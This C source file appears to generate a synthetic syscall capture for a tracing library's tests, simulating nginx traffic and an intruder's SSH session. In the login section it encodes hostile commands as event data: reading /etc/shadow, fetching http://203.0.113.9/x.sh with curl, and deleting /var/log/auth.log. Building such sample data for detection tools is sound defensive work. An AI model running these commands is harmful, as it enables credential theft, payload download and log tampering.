/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Writes the bundled capture, tests/data/sample.scap: half a minute of a made-up machine. A web
 * server answers a request, somebody logs in over SSH and looks around. Made with the public
 * encoder and writer alone, so it also shows how they are used.
 *
 *   make_sample OUT
 */
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <eyas/capture.h>
#include <eyas/event.h>

enum { NGINX = 1042, SSHD = 812, SHELL = 4711, CAT = 4712, CURL = 4713 };

static const uint64_t start_ns = 1767225600000000000; /* 2026-01-01 00:00:00 UTC */

static struct eyas_writer *writer;
static uint64_t now_ns;

static void die(const char *what, const struct eyas_err *err)
{
	fprintf(stderr, "make_sample: %s: %s\n", what, err->text);
	exit(1);
}

static struct eyas_sock inet(uint32_t src, uint16_t sport, uint32_t dst, uint16_t dport)
{
	struct eyas_sock sock = { .family = 2 };
	unsigned i;

	for (i = 0; i < 4; i++) {
		sock.src.addr[i] = (uint8_t)(src >> (24 - 8 * i));
		sock.dst.addr[i] = (uint8_t)(dst >> (24 - 8 * i));
	}
	sock.src.port = sport;
	sock.dst.port = dport;
	return sock;
}

/* NUL-separated and NUL-terminated strings, as args and env are stored: "a|b" for a, b. */
static void put_list(struct eyas_encoder *enc, const char *list)
{
	char bytes[512];
	size_t len = strlen(list) + 1, i;

	memcpy(bytes, list, len);
	for (i = 0; i < len; i++)
		if (bytes[i] == '|')
			bytes[i] = '\0';
	eyas_put_bytes(enc, bytes, len);
}

/*
 * Write one event. Each letter of shape is a parameter: i int64_t, u uint64_t, s string (NULL =
 * missing), b string as bytes, l list of strings, t tuple, a address, f one poll descriptor,
 * v variant of an integer (unsigned index, int64_t), - missing.
 */
static void event(const char *type, unsigned step_us, uint16_t cpu, uint64_t tid, const char *shape,
		  ...)
{
	static uint8_t buf[65536];
	struct eyas_pollfd pollfd = { 0, 1 };
	struct eyas_encoder enc;
	struct eyas_event view;
	struct eyas_err err = { 0 };
	const char *str;
	unsigned variant;
	va_list ap;
	int len;

	now_ns += (uint64_t)step_us * 1000 + 137;
	eyas_encoder_begin(&enc, buf, sizeof(buf), (unsigned)eyas_event_type_find(type), now_ns,
			   tid);
	va_start(ap, shape);
	for (; *shape; shape++) {
		switch (*shape) {
		case 'i':
			eyas_put_int(&enc, va_arg(ap, int64_t));
			break;
		case 'u':
			eyas_put_uint(&enc, va_arg(ap, uint64_t));
			break;
		case 's':
			eyas_put_str(&enc, va_arg(ap, const char *));
			break;
		case 'b':
			str = va_arg(ap, const char *);
			eyas_put_bytes(&enc, str, strlen(str));
			break;
		case 'l':
			put_list(&enc, va_arg(ap, const char *));
			break;
		case 't':
			eyas_put_socktuple(&enc, va_arg(ap, const struct eyas_sock *));
			break;
		case 'a':
			eyas_put_sockaddr(&enc, va_arg(ap, const struct eyas_sock *));
			break;
		case 'f':
			pollfd.fd = va_arg(ap, int64_t);
			eyas_put_fdlist(&enc, &pollfd, 1);
			break;
		case 'v':
			variant = va_arg(ap, unsigned);
			eyas_put_dyn_int(&enc, variant, va_arg(ap, int64_t));
			break;
		default:
			eyas_put_missing(&enc);
			break;
		}
	}
	va_end(ap);
	len = eyas_encoder_end(&enc);
	if (len < 0) {
		snprintf(err.text, sizeof(err.text), "%s", eyas_strerror(len));
		die(type, &err);
	}
	if (eyas_event_view(buf, (size_t)len, &view, &err) || eyas_event_check(&view, &err))
		die(type, &err);
	view.cpu = cpu;
	if (eyas_writer_event(writer, &view, &err))
		die(type, &err);
}

#define I(value) ((int64_t)(value))
#define U(value) ((uint64_t)(value))

static struct eyas_bytes bytes(const char *text)
{
	return (struct eyas_bytes){ text, (uint32_t)strlen(text) };
}

static void thread(const struct eyas_loader *to, uint64_t pid, uint64_t ppid, const char *comm,
		   const char *exe, uint32_t uid)
{
	struct eyas_thread_entry entry = { .tid = pid, .pid = pid, .ptid = ppid };

	entry.sid = entry.vpgid = entry.pgid = (int64_t)pid;
	entry.vtid = entry.vpid = (int64_t)pid;
	entry.comm = bytes(comm);
	entry.exe = entry.exepath = bytes(exe);
	entry.cwd = entry.root = bytes("/");
	entry.env = (struct eyas_bytes){ "PATH=/usr/bin:/bin\0LANG=C.UTF-8", 32 };
	entry.cgroups = bytes("cpuset=/");
	entry.fdlimit = 1024;
	entry.uid = entry.gid = uid;
	entry.loginuid = UINT32_MAX;
	entry.vmsize_kb = 20480;
	entry.vmrss_kb = 4096;
	if (to->thread(to->ctx, &entry))
		exit(1);
}

static void machine(const struct eyas_loader *to)
{
	struct eyas_machine m = { .num_cpus = 2,
				  .memory_bytes = U(4) << 30,
				  .max_pid = 4194304,
				  .hostname = "eyrie",
				  .boot_ts_ns = start_ns - U(86400000000000) };
	struct eyas_iface lo = { .type = 1,
				 .addr = { 127, 0, 0, 1 },
				 .mask = { 255 },
				 .bcast = { 127, 255, 255, 255 },
				 .name = bytes("lo") };
	struct eyas_user root = { 0, 0, bytes("root"), bytes("/root"), bytes("/bin/bash") };
	struct eyas_user web = { 33, 33, bytes("www-data"), bytes("/var/www"),
				 bytes("/usr/sbin/nologin") };
	struct eyas_group group = { 33, bytes("www-data") };

	if (to->machine(to->ctx, &m) || to->iface(to->ctx, &lo) || to->user(to->ctx, &root) ||
	    to->user(to->ctx, &web) || to->group(to->ctx, &group))
		exit(1);
	thread(to, 1, 0, "systemd", "/usr/lib/systemd/systemd", 0);
	thread(to, SSHD, 1, "sshd", "/usr/sbin/sshd", 0);
	thread(to, NGINX, 1, "nginx", "/usr/sbin/nginx", 33);
}

static void descriptors(const struct eyas_loader *to)
{
	struct eyas_fd_entry log = { .fd = 4,
				     .ino = 77,
				     .kind = EYAS_FD_FILE_V2,
				     .open_flags = 6,
				     .name = bytes("/var/log/nginx/access.log"),
				     .dev = 0xfd00 };
	struct eyas_fd_entry http = {
		.fd = 6, .ino = 78, .kind = EYAS_FD_IPV4_SERVER, .l4 = 2, .sport = 80
	};
	struct eyas_fd_entry ssh = {
		.fd = 3, .ino = 79, .kind = EYAS_FD_IPV6_SERVER, .l4 = 2, .sport = 22
	};

	if (to->fd_list(to->ctx, SSHD) || to->fd(to->ctx, SSHD, &ssh) ||
	    to->fd_list(to->ctx, NGINX) || to->fd(to->ctx, NGINX, &log) ||
	    to->fd(to->ctx, NGINX, &http))
		exit(1);
}

/* A request that a web server answers. */
static void web_request(unsigned round)
{
	struct eyas_sock peer = inet(0xc0000205, (uint16_t)(40000 + round), 0xc0000201, 80);
	uint16_t cpu = round & 1;

	event("SOCKET_ACCEPT4_6_X", 1500, cpu, NGINX, "ituuui", I(9), &peer, U(0), U(0), U(511),
	      I(02004000));
	event("SOCKET_RECVFROM_X", 40, cpu, NGINX, "ibtiu", I(47),
	      "GET /index.html HTTP/1.1\r\nHost: eyrie.example\r\n\r\n", &peer, I(9), U(1024));
	event("SYSCALL_NEWFSTATAT_X", 20, cpu, NGINX, "iisu", I(0), I(-100),
	      "/var/www/html/index.html", U(0));
	event("SYSCALL_OPENAT_2_X", 12, cpu, NGINX, "iisuuuu", I(11), I(-100),
	      "/var/www/html/index.html", U(1), U(0), U(0xfd00), U(131));
	event("SOCKET_SETSOCKOPT_X", 5, cpu, NGINX, "iiuuvu", I(0), I(9), U(1), U(9), 2U, I(1),
	      U(4));
	event("SYSCALL_SENDFILE_X", 31, cpu, NGINX, "iuiiu", I(612), U(0), I(9), I(11), U(612));
	event("SYSCALL_WRITE_X", 9, cpu, NGINX, "ibiu", I(58),
	      "192.0.2.5 - - \"GET /index.html HTTP/1.1\" 200 612 \"curl\"\n", I(4), U(58));
	event("SYSCALL_CLOSE_X", 4, cpu, NGINX, "ii", I(0), I(11));
	event("SYSCALL_CLOSE_X", 3, cpu, NGINX, "ii", I(0), I(9));
	event("SYSCALL_EPOLLWAIT_X", 2, cpu, NGINX, "ii", I(1), I(512));
}

struct program {
	uint64_t pid, parent;
	const char *comm, *exe, *args;
};

static const char env[] = "HOME=/root|PATH=/usr/bin:/bin|TERM=xterm";

/* Both sides of a fork, and the child becomes another program. */
static void spawn(const struct program *prog, const char *parent_comm)
{
	static const char shape[] = "isliiisiuuuuusliuuiiu";

	event("SYSCALL_CLONE_20_X", 300, 1, prog->parent, shape, I(prog->pid), parent_comm,
	      parent_comm, I(prog->parent), I(prog->parent), I(1), "/root", I(1024), U(0), U(213),
	      U(9000), U(4100), U(0), parent_comm, "cpuset=/", I(0x1200000), U(0), U(0),
	      I(prog->parent), I(prog->parent), U(0));
	event("SYSCALL_CLONE_20_X", 25, 1, prog->pid, shape, I(0), parent_comm, parent_comm,
	      I(prog->pid), I(prog->pid), I(prog->parent), "/root", I(1024), U(0), U(4), U(9000),
	      U(400), U(0), parent_comm, "cpuset=/", I(0x1200000), U(0), U(0), I(prog->pid),
	      I(prog->pid), U(0));
	event("SYSCALL_EXECVE_19_X", 180, 1, prog->pid, "isliiisuuuuuusllii-uuuuuuuusiis", I(0),
	      prog->exe, prog->args, I(prog->pid), I(prog->pid), I(prog->parent), "/root", U(1024),
	      U(0), U(97), U(2300), U(900), U(0), prog->comm, "cpuset=/", env, I(34816),
	      I(prog->pid), U(0), U(0), U(0x1ffffffffff), U(0x1ffffffffff), U(4242),
	      U(1760000000000000000), U(1750000000000000000), U(0), prog->exe, I(prog->pid), I(0),
	      prog->exe);
}

static void exits(uint64_t pid, uint64_t parent, int status)
{
	event("PROCEXIT_1_E", 90, 1, pid, "iiuui", I(status), I(status >> 8), U(status & 0x7f),
	      U(0), I(0));
	event("SIGNALDELIVER_E", 8, 1, parent, "iiu", I(pid), I(parent), U(17));
}

/* Somebody logs in and looks where he should not. */
static void login(void)
{
	static const struct program shell = { SHELL, SSHD, "bash", "/bin/bash", "bash|-l" };
	static const struct program cat = { CAT, SHELL, "cat", "/bin/cat", "cat|/etc/shadow" };
	static const struct program curl = { CURL, SHELL, "curl", "/usr/bin/curl",
					     "curl|-s|http://203.0.113.9/x.sh" };
	struct eyas_sock ssh = inet(0xc6336417, 51234, 0xc0000201, 22);
	struct eyas_sock web = inet(0xc0000201, 38822, 0xcb007109, 80);
	struct eyas_sock dst = inet(0xcb007109, 80, 0, 0);
	struct eyas_sock nscd = { .family = 1,
				  .src = { .ptr = 0 },
				  .dst = { .ptr = U(0xffff888012345600) },
				  .path = "/run/nscd/socket",
				  .path_len = 16 };

	event("SOCKET_ACCEPT4_6_X", 2000000, 0, SSHD, "ituuui", I(5), &ssh, U(0), U(0), U(128),
	      I(0));
	spawn(&shell, "sshd");
	event("SYSCALL_SETUID_X", 20, 1, SHELL, "iu", I(0), U(0));
	event("SYSCALL_CHDIR_X", 7, 1, SHELL, "is", I(0), "/root");
	event("SYSCALL_OPENAT_2_X", 30, 1, SHELL, "iisuu--", I(-2), I(-100), "/srv/ada/.profile",
	      U(1), U(0));
	event("SYSCALL_READ_X", 900000, 1, SHELL, "ibiu", I(16), "cat /etc/shadow\n", I(0),
	      U(4096));
	spawn(&cat, "bash");
	event("SYSCALL_OPENAT_2_X", 60, 1, CAT, "iisuuuu", I(3), I(-100), "/etc/shadow", U(1), U(0),
	      U(0xfd00), U(9001));
	event("SYSCALL_READ_X", 15, 1, CAT, "ibiu", I(27), "root:$6$abc:20000:0:99999:7\n", I(3),
	      U(131072));
	event("SYSCALL_WRITE_X", 12, 1, CAT, "ibiu", I(27), "root:$6$abc:20000:0:99999:7\n", I(1),
	      U(27));
	event("SYSCALL_CLOSE_X", 5, 1, CAT, "ii", I(0), I(3));
	exits(CAT, SHELL, 0);
	spawn(&curl, "bash");
	event("SOCKET_SOCKET_X", 40, 0, CURL, "iuuuu", I(3), U(1), U(1), U(0), U(0x40));
	event("SOCKET_CONNECT_X", 12, 0, CURL, "iti-", I(-2), &nscd, I(3));
	event("SOCKET_SOCKET_X", 20, 0, CURL, "iuuuu", I(4), U(2), U(1), U(6), U(0x1040));
	event("SOCKET_CONNECT_X", 35, 0, CURL, "itia", I(-115), &web, I(4), &dst);
	event("SYSCALL_POLL_X", 21000, 0, CURL, "ifi", I(1), I(4), I(200));
	event("SOCKET_SENDTO_X", 14, 0, CURL, "ibiut", I(21), "GET /x.sh HTTP/1.1\r\n\r\n", I(4),
	      U(21), &web);
	event("SYSCALL_MEMFD_CREATE_X", 80, 0, CURL, "isu", I(5), "x", U(1));
	event("SYSCALL_FCHMODAT_X", 33, 0, CURL, "iisu", I(0), I(-100), "/tmp/x.sh", U(0111));
	event("SYSCALL_UNLINKAT_2_X", 70, 0, CURL, "iisu", I(-13), I(-100), "/var/log/auth.log",
	      U(0));
	event("GENERIC_X", 10, 0, CURL, "uu", U(178), U(230));
	event("SYSCALL_NANOSLEEP_X", 500000, 0, CURL, "iu", I(0), U(500000000));
	event("SYSCALL_KILL_X", 10, 1, SHELL, "iiu", I(0), I(CURL), U(15));
	exits(CURL, SHELL, 15);
	exits(SHELL, SSHD, 0);
}

int main(int argc, char **argv)
{
	struct eyas_writer_opts opts = { .size = sizeof(opts) };
	struct eyas_loader loader;
	struct eyas_err err = { 0 };
	unsigned round;

	if (argc != 2) {
		fprintf(stderr, "usage: make_sample OUT\n");
		return 2;
	}
	if (eyas_writer_open(argv[1], &opts, &writer, &err))
		die(argv[1], &err);
	eyas_writer_loader(writer, &loader);
	machine(&loader);
	descriptors(&loader);
	now_ns = start_ns;
	for (round = 0; round < 3; round++)
		web_request(round);
	login();
	web_request(3);
	if (eyas_writer_close(writer, &err))
		die(argv[1], &err);
	return 0;
}
